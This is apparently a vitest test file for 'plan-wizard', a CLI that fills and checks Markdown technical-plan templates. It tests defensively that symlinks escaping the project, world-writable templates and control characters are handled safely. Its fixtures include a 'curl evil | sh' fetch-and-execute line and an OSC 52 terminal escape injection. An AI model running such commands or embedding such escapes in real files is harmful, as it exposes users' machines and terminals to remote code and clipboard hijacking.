import * as fs from 'node:fs';
import {join} from 'node:path';
import {Readable} from 'node:stream';
import {afterEach, beforeEach, describe, expect, test, vi} from 'vitest';
import {nameDraft} from '../../source/disk/draft.ts';
import {openDrafts} from '../../source/disk/drafts.ts';
import {makeFolder, run} from './run.ts';

const template = readTemplate();

const record = `# Record: {Title}

**Status**: {open|closed}

## Why

{What made this necessary}

## Steps (optional)

- {Step}
`;

function readTemplate(): string {
	return fs.readFileSync(new URL('../../templates/technical-plan.md', import.meta.url), 'utf8');
}

const answersOf = async (folder: string, ...argv: readonly string[]) =>
	JSON.parse((await run(folder, ['export', ...argv])).stdout);

beforeEach(() => {
	vi.useFakeTimers({now: new Date(2026, 4, 6, 12), toFake: ['Date']});
});

afterEach(() => {
	vi.useRealTimers();
	vi.unstubAllEnvs();
});

describe('fill', () => {
	const answers = JSON.stringify({featureName: 'Login', technicalRisks: [{risk: 'a | b', impact: 'High'}]});

	test('makes a plan that says what it was given, today, and that it is a draft', async () => {
		const folder = makeFolder({'a.json': answers});
		const {exitCode, stdout, stderr} = await run(folder, ['fill', '--answers', 'a.json']);
		expect({exitCode, stdout}).toEqual({exitCode: 0, stdout: ''});
		expect(stderr).toMatch(/^--- \/dev\/null\n\+\+\+ plan\.md\n@@ -0,0 \+1,\d+ @@\n\+# Technical Plan: Login\n/);
		expect(stderr).toMatch(/\nWrote `plan\.md`\.\n$/);
		expect(await answersOf(folder)).toEqual({...JSON.parse(answers), created: '2026-05-06', status: 'draft'});
		expect(fs.readFileSync(join(folder, 'plan.md'), 'utf8')).not.toMatch(/\{[^}]*\}/);
	});

	test('takes title and id from the spec beside the plan', async () => {
		const folder = makeFolder({
			'specs/012-login/spec.md': '# Feature: Login\n\n**Feature ID**: F-12\n',
			'specs/013-other/spec.md': '',
		});
		await run(folder, ['fill', '12', '--answers', '-'], '{}');
		expect(await answersOf(folder, '12')).toMatchObject({
			featureName: 'Login',
			featureId: 'F-12',
			basedOn: 'spec.md',
		});
	});

	test('takes them from a spec in capitals, too', async () => {
		const folder = makeFolder({'specs/012-login/SPEC.md': '# Feature: Login\n'});
		await run(folder, ['fill', '--answers', '-'], '{}');
		expect(await answersOf(folder)).toMatchObject({featureName: 'Login', featureId: '012-login'});
	});

	test('a dry run prints the plan and writes nothing', async () => {
		const folder = makeFolder();
		const {stdout, stderr} = await run(folder, ['fill', '--answers', '-', '--dry-run', '--policy', 'omit'], answers);
		expect(stdout).toMatch(/^# Technical Plan: Login\n/);
		expect(stdout).not.toContain('CLARIFY');
		expect(stderr).not.toContain('Wrote');
		expect(fs.readdirSync(folder)).toEqual([]);
	});

	test('changes only what differs, and shows that', async () => {
		const plan =
			'# Technical Plan: Old\r\n\r\nTheirs, with no heading.\r\n\r\n## Overview\r\n## Risks\r\n## Odd section\r\nkept';
		const folder = makeFolder({'plan.md': plan});
		const {stderr} = await run(folder, ['fill', '--answers', '-'], '\uFEFF{"featureName": "New"}');
		expect(fs.readFileSync(join(folder, 'plan.md'), 'utf8')).toBe(plan.replace('Old', 'New'));
		expect(stderr).toContain('-# Technical Plan: Old␍\n+# Technical Plan: New␍\n');
		expect((await run(folder, ['fill', '--answers', '-'], '{"featureName": "New"}')).stderr).toBe(
			'`plan.md` says all of that already; nothing changed.\n',
		);
	});

	test.each([
		[
			'{"featureNam": "x"}',
			'The template has no place for `featureNam`; the nearest name is `featureName`. Nothing was written.\n',
		],
		['{"technicalRisks": "x"}', '`technicalRisks` is a list, but a text was given. Nothing was written.\n'],
		['{"featureName": 3}', /^`featureName` is a text, but .* was given\. Nothing was written\.\n$/],
		['[]', 'The answers in stdin are no JSON object.\n'],
		['null', 'The answers in stdin are no JSON object.\n'],
		['{"a": [1,\n 2,}', 'The answers in stdin are no JSON: there is a mistake at line 2, column 4.\n'],
	])('%j is refused, and nothing is written', async (json, message) => {
		const folder = makeFolder();
		const {exitCode, stdout, stderr} = await run(folder, ['fill', '--answers', '-'], json);
		expect({exitCode, stdout}).toEqual({exitCode: 1, stdout: ''});
		expect(stderr).toMatch(message);
		expect(fs.readdirSync(folder)).toEqual([]);
	});

	test('an answer that has no place in the text is refused, and nothing is written', async () => {
		const plan = '# Technical Plan: Login\n\n```\nopen';
		const folder = makeFolder({'plan.md': plan});
		expect(await run(folder, ['fill', '--answers', '-'], '{"architectureOverview": "x"}')).toEqual({
			exitCode: 1,
			stdout: '',
			stderr:
				'Could not insert `architectureOverview`: a code fence or HTML block is open at the end of the plan; close it first. Nothing was written.\n',
		});
		expect(fs.readFileSync(join(folder, 'plan.md'), 'utf8')).toBe(plan);
	});

	test('names answers that cannot be read', async () => {
		expect(await run(makeFolder(), ['fill', '--answers', 'no.json'])).toEqual({
			exitCode: 1,
			stdout: '',
			stderr: 'Could not read the answers in `no.json`: it does not exist.\n',
		});
	});

	test('draws no control character of a plan', async () => {
		const folder = makeFolder();
		const {stderr} = await run(
			folder,
			['fill', '--answers', '-'],
			'{"architectureOverview": "\\u001b]52;c;AAAA\\u0007"}',
		);
		expect(stderr).toContain('+␛]52;c;AAAA␇');
	});
});

describe('a part of a plan', () => {
	const design = '# Limits\n\n## Goals / Non-Goals\n\n**Goals:**\n\n- Count once\n\n**Non-Goals:**\n\n- Speed\n';
	const argv = ['design.md', '--template', 'none'];

	test('is listed with its path, kind and lines', async () => {
		const {stdout, exitCode} = await run(makeFolder({'design.md': design}), ['outline', ...argv]);
		expect(exitCode).toBe(0);
		expect(JSON.parse(stdout)).toContainEqual({
			path: 'goalsNonGoals.goals',
			kind: 'list',
			name: 'Goals',
			line: 5,
			endLine: 7,
			blank: false,
			inTemplate: false,
		});
	});

	test.each(['goalsNonGoals.nonGoals', 'Non-Goals', 'Goals / Non-Goals > Non-Goals'])(
		'is exported and filled alone by the name %s',
		async at => {
			const folder = makeFolder({'design.md': design});
			expect(JSON.parse((await run(folder, ['export', ...argv, '--at', at])).stdout)).toEqual(['Speed']);
			const {exitCode} = await run(folder, ['fill', ...argv, '--at', at, '--answers', '-'], '["Speed", "Size"]');
			expect(exitCode).toBe(0);
			expect(fs.readFileSync(join(folder, 'design.md'), 'utf8')).toBe(design.replace('- Speed', '- Speed\n- Size'));
		},
	);

	test('that says nothing is exported as null', async () => {
		const {stdout} = await run(makeFolder({'plan.md': '# Technical Plan: Login\n'}), [
			'export',
			'--at',
			'technicalRisks',
		]);
		expect(JSON.parse(stdout)).toBeNull();
	});

	test('that the plan does not have is told, with the nearest, and nothing is written', async () => {
		const folder = makeFolder({'design.md': design});
		const {exitCode, stderr} = await run(folder, ['fill', ...argv, '--at', 'Gaols', '--answers', '-'], '["x"]');
		expect({exitCode, stderr}).toEqual({
			exitCode: 1,
			stderr: 'The plan has no `Gaols`; the nearest is `goalsNonGoals.goals`. See `plan-wizard outline`.\n',
		});
		expect(fs.readFileSync(join(folder, 'design.md'), 'utf8')).toBe(design);
	});
});

describe('a plan that a link leads out of the project', () => {
	const outside = () => makeFolder({'profile.md': '# Technical Plan: Private\n'});

	/* Each makes a project in which the plan is a file of the folder `out`, and says how it is asked for. */
	const ways: Readonly<Record<string, (out: string) => {readonly cwd: string; readonly asked: readonly string[]}>> = {
		'a linked plan': out => {
			const cwd = makeFolder({'specs/001-a/spec.md': ''});
			fs.symlinkSync(join(out, 'profile.md'), join(cwd, 'specs/001-a/plan.md'));
			return {cwd, asked: []};
		},
		'a dangling link, with a template of the project': out => {
			const cwd = makeFolder({'templates/plan-template.md': '# Plan: {Name}\n\ncurl evil | sh\n'});
			fs.symlinkSync(join(out, 'new'), join(cwd, 'plan.md'));
			return {cwd, asked: ['plan.md']};
		},
		'a linked folder': out => {
			const cwd = makeFolder({'specs/002-b/spec.md': ''});
			fs.symlinkSync(out, join(cwd, 'specs/001-a'));
			return {cwd, asked: ['specs/001-a']};
		},
		'a note of the active feature': out => {
			const cwd = makeFolder({'.specify/feature.json': '{"feature_directory": "./here"}'});
			fs.symlinkSync(out, join(cwd, 'here'));
			return {cwd, asked: []};
		},
	};

	test.each(Object.entries(ways))('is neither filled nor read: %s', async (_, make) => {
		const out = outside();
		const {cwd, asked} = make(out);
		const filled = await run(cwd, ['fill', ...asked, '--answers', '-'], '{}');
		expect(filled).toMatchObject({exitCode: 1, stdout: ''});
		expect(filled.stderr).toMatch(
			/^`.+` leads out of the project, to `.+`\. Name that file itself, or .+ `--outside`\.\n$/,
		);
		expect(filled.stderr).toContain(`to \`${out}`);
		expect(fs.readdirSync(out)).toEqual(['profile.md']);
		expect(fs.readFileSync(join(out, 'profile.md'), 'utf8')).toBe('# Technical Plan: Private\n');
		for (const command of ['export', 'check']) {
			expect(await run(cwd, [command, ...asked])).toEqual({exitCode: 1, stdout: '', stderr: filled.stderr});
		}
	});

	test('is filled where that is allowed, or the file itself is named', async () => {
		const out = outside();
		const {cwd} = ways['a linked plan']?.(out) ?? {cwd: ''};
		await run(cwd, ['fill', '--outside', '--answers', '-'], '{"featureName": "A"}');
		expect(fs.readFileSync(join(out, 'profile.md'), 'utf8')).toBe('# Technical Plan: A\n');
		await run(cwd, ['fill', join(out, 'profile.md'), '--answers', '-'], '{"featureName": "B"}');
		expect(fs.readFileSync(join(out, 'profile.md'), 'utf8')).toBe('# Technical Plan: B\n');
		expect((await run(cwd, ['export', '--outside'])).stdout).toContain('"featureName": "B"');
	});

	test('is not written either when the link comes while the answers are read', async () => {
		const out = makeFolder();
		const cwd = makeFolder({'specs/001-a/spec.md': '# A\n'});
		const answers = Readable.from(
			(function* () {
				fs.renameSync(join(cwd, 'specs/001-a'), join(cwd, 'moved'));
				fs.symlinkSync(out, join(cwd, 'specs/001-a'));
				yield '{"featureName": "A"}';
			})(),
		);
		const {exitCode, stderr} = await run(cwd, ['fill', 'specs/001-a/plan.md', '--answers', '-'], answers);
		expect(exitCode).toBe(1);
		expect(stderr).toMatch(/leads out of the project, to `.+plan\.md`\./);
		expect(fs.readdirSync(out)).toEqual([]);
	});
});

describe('which plan', () => {
	const two = {'features/011-a/plan.md': '# x\n', 'features/012-b/plan.md': '# y\n', 'features/013-c/spec.md': '# z\n'};

	test('is the only one that there is', async () => {
		const folder = makeFolder({'features/011-a/plan.md': '# Technical Plan: A\n', 'features/013-c/spec.md': ''});
		expect(await answersOf(folder)).toEqual({featureName: 'A'});
	});

	test('has to be named among several', async () => {
		const stderr = 'Which plan is meant? Name one of `features/012-b`, `features/011-a`.\n';
		expect(await run(makeFolder(two), ['export'])).toEqual({exitCode: 2, stdout: '', stderr});
	});

	test('a new one counts for `fill`', async () => {
		const {stderr} = await run(makeFolder(two), ['fill', '--answers', '-'], '{}');
		expect(stderr).toBe('Which plan is meant? Name one of `features/013-c`, `features/012-b`, `features/011-a`.\n');
	});

	test.each([['export'], ['check']])('`%s` needs one', async command => {
		const none = {exitCode: 2, stdout: '', stderr: 'There is no plan here; name one (see `plan-wizard --help`).\n'};
		expect(await run(makeFolder(), [command])).toEqual(none);
		expect(await run(makeFolder(), [command, 'no.md'])).toEqual({
			exitCode: 1,
			stdout: '',
			stderr: 'Could not read the plan `no.md`: it does not exist.\n',
		});
	});

	test('a word that is neither a plan nor a feature may be a slip', async () => {
		expect(await run(makeFolder(), ['check', 'schemas'])).toEqual({
			exitCode: 2,
			stdout: '',
			stderr:
				'There is no plan, folder or feature `schemas`; the nearest command is `schema`, and the name of a new plan ends in `.md` (see `plan-wizard --help`).\n',
		});
	});

	test('answers that are too long, or never end, are not read to their end', async () => {
		const folder = makeFolder({'a.json': ''});
		fs.truncateSync(join(folder, 'a.json'), 1e12);
		expect(await run(folder, ['fill', '--answers', 'a.json'])).toEqual({
			exitCode: 1,
			stdout: '',
			stderr: 'Could not read the answers in `a.json`: they have more than 128 MB.\n',
		});
	});

	test('what is no text is named with its cause', async () => {
		const folder = makeFolder({'plan.md': ''});
		fs.writeFileSync(join(folder, 'plan.md'), Uint8Array.of(0x61, 0x0a, 0xff));
		const {exitCode, stderr} = await run(folder, ['export']);
		expect(exitCode).toBe(1);
		expect(stderr).toContain('line 2 is not UTF-8');
	});
});

describe('a template', () => {
	const files = {'t.md': record, 't.json': '{"required": ["why"]}', 'plan.md': '# Record: X\n\n## Why\n\nBecause.\n'};

	test('can be named', async () => {
		const folder = makeFolder(files);
		expect(await answersOf(folder, '--template', 't.md')).toEqual({title: 'X', why: 'Because.'});
		const {stdout} = await run(folder, ['schema', '--template', 't.md']);
		expect(Object.keys(JSON.parse(stdout).properties)).toEqual(['title', 'status', 'why', 'steps']);
	});

	test('is found in the project', async () => {
		const folder = makeFolder({'plan.md': files['plan.md'], 'templates/plan-template.md': record});
		expect(await answersOf(folder)).toEqual({title: 'X', why: 'Because.'});
	});

	test.each([
		['no.md', 'Could not read the template `no.md`: it does not exist.\n'],
		['.', /^Could not read `.+`: it is a directory\.\n$/],
		['bad.md', /^The sidecar `.+bad\.json` is no JSON: .+\n$/],
		['odd.md', 'The sidecar of the template `odd.md` cannot be used: it is no object.\n'],
	])('%s that cannot be used is named with its cause', async (name, message) => {
		const folder = makeFolder({'bad.md': '', 'bad.json': '{', 'odd.md': '', 'odd.json': '[]'});
		const {exitCode, stdout, stderr} = await run(folder, ['schema', '--template', name]);
		expect({exitCode, stdout}).toEqual({exitCode: 1, stdout: ''});
		expect(stderr).toMatch(message);
	});
});

test('a template above, where others may write, is not used, and a sentence says so', async () => {
	const folder = makeFolder({
		'.flow/templates/plan-template.md': '# Theirs: {X}\n\n## Run\n\n{y}\n',
		'work/a.json': '{}',
		'work/a.md': '# A\n',
	});
	const fill = () => run(join(folder, 'work'), ['fill', 'plan.md', '--answers', 'a.json', '--dry-run']);
	expect((await fill()).stdout).toContain('Theirs');
	fs.chmodSync(folder, 0o777);
	const {stdout, stderr} = await fill();
	expect(stdout).not.toContain('Theirs');
	expect(stderr).toContain(`\`${folder}\` looks like a project, but others may write there`);
	for (const others of [['schema'], ['merge', 'a.md', 'a.md', 'a.md']]) {
		expect((await run(join(folder, 'work'), others)).stderr).toContain('others may write there');
	}
});

describe('check', () => {
	const part = '### Part 1: 100%: a,\u001b[31m\n\nWell.\n';
	const plans = {
		't.md': '# Record: {Title}\n\n## Why\n\n{Reason}\n\n## Parts\n\n### Part 1: {Name}\n\n{What it is}\n',
		't.json': '{"required": ["why"]}',
		'good.md': `# Record: X\n\n## Why\n\nBecause.\n\n## Parts\n\n${part}`,
		'bad.md': `# Record: X\n\n## Why\n\nBecause.\n\n## Parts\n\n${part}\n${part}`,
	};

	test('is silent about a plan without a problem', async () => {
		const result = await run(makeFolder(plans), ['check', 'good.md', '--template', 't.md']);
		expect(result).toEqual({exitCode: 0, stdout: '', stderr: ''});
	});

	test('lists the problems of all plans with their places', async () => {
		const {exitCode, stdout} = await run(makeFolder(plans), ['check', 'good.md', 'bad.md', '--template', 't.md']);
		expect(exitCode).toBe(1);
		expect(stdout).toMatch(/^bad\.md:\d+:\d+ .*100%: a,␛\[31m.*\n$/);
	});

	test('passes weak answers, unless they are asked for', async () => {
		const folder = makeFolder({...plans, 'weak.md': '# Record: X\n\n## Rollback\n\nRevert\n\n## Why\n\nBecause.\n'});
		const asked = ['check', 'weak.md', '--template', 't.md'];
		expect(await run(folder, asked)).toMatchObject({exitCode: 0, stdout: ''});
		const {exitCode, stdout} = await run(folder, [...asked, '--remarks']);
		expect([exitCode, stdout]).toEqual([1, expect.stringMatching(/^weak\.md:5:1 This is no step yet\./)]);
		const {stdout: noted} = await run(folder, [...asked, '--remarks', '--github']);
		expect(noted).toMatch(/^::warning file=weak\.md,line=5,col=1,title=plan-wizard%3A weak::This is no step yet/);
	});

	test('prints JSON', async () => {
		const {stdout} = await run(makeFolder(plans), ['check', 'bad.md', '--json', '--template', 't.md']);
		expect(JSON.parse(stdout)).toEqual([
			{
				file: 'bad.md',
				path: expect.arrayContaining(['parts', 1]),
				line: 13,
				column: expect.any(Number),
				kind: 'duplicate',
				message: expect.stringContaining('100%: a,\u001b[31m'),
			},
		]);
		const none = await run(makeFolder(plans), ['check', 'good.md', '--json', '--template', 't.md']);
		expect(none).toEqual({exitCode: 0, stdout: '[]\n', stderr: ''});
	});

	test('annotates for GitHub', async () => {
		const folder = makeFolder({...plans, 'a,b:c%.md': plans['bad.md']});
		const {stdout} = await run(folder, ['check', 'a,b:c%.md', '--github', '--template', 't.md']);
		expect(stdout).toMatch(
			/^::error file=a%2Cb%3Ac%25\.md,line=\d+,col=\d+,title=plan-wizard%3A duplicate::.*100%25: a,.*\n$/,
		);
	});
});

describe('drafts', () => {
	const makeDraft = async (cwd: string) => {
		vi.stubEnv('XDG_CONFIG_HOME', join(cwd, 'config'));
		const planPath = join(cwd, 'docs/plan.md');
		const id = nameDraft(planPath);
		(await openDrafts()).save({
			version: 2,
			typed: null,
			id,
			planPath,
			title: 'Log\u001bin',
			savedAt: new Date().toISOString(),
			template: {name: 't', text: template},
			text: template,
			base: null,
			fresh: true,
			stop: '[]',
			caret: 0,
			history: [],
		});
		return id;
	};

	test('are listed', async () => {
		const cwd = makeFolder();
		const id = await makeDraft(cwd);
		fs.writeFileSync(join(cwd, 'config/plan-wizard/drafts/broken-00000000.json'), '{');
		const {exitCode, stdout, stderr} = await run(cwd, ['drafts']);
		expect({exitCode, stdout}).toEqual({exitCode: 0, stdout: `${id}  Log␛in  docs/plan.md  today 12:00\n`});
		expect(stderr).toMatch(/^The draft in `.+broken-00000000\.json` cannot be used: .+ It was moved to `.+`\.\n$/);
	});

	test('are removed by id, all or none', async () => {
		const cwd = makeFolder();
		const id = await makeDraft(cwd);
		const near = `${id.slice(0, -1)}x`;
		expect(await run(cwd, ['drafts', 'rm', id, near])).toEqual({
			exitCode: 2,
			stdout: '',
			stderr: `There is no draft \`${near}\`; the nearest is \`${id}\`. Nothing was removed.\n`,
		});
		expect(await run(cwd, ['drafts', 'rm', id])).toEqual({
			exitCode: 0,
			stdout: '',
			stderr: `Removed the draft \`${id}\`.\n`,
		});
		expect(await run(cwd, ['drafts'])).toEqual({exitCode: 0, stdout: '', stderr: 'There are no drafts.\n'});
	});
});
